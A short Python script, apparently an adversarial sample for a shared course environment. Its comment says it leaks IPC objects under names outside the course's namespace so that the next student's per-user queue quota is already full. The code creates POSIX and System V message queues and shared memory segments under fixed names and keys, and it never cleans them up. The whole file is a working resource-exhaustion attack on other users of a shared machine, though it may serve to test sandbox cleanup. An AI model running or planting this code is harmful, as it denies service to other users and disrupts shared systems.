# Leak objects under names that are not the course's, filling the per-user queue quota for the next student.
import posix_ipc, sysv_ipc
for i in range(8):
    try:
        posix_ipc.MessageQueue(f"/advx-queue-{i}", posix_ipc.O_CREAT, max_messages=10, max_message_size=8192)
    except Exception:
        break
for key in (0x0ADF0001, 0x0ADF0002):
    try:
        sysv_ipc.MessageQueue(key, sysv_ipc.IPC_CREAT)
        sysv_ipc.SharedMemory(key, sysv_ipc.IPC_CREAT, size=4096)
    except Exception:
        pass
posix_ipc.SharedMemory("/advx-segment", posix_ipc.O_CREAT, size=4096).close_fd()
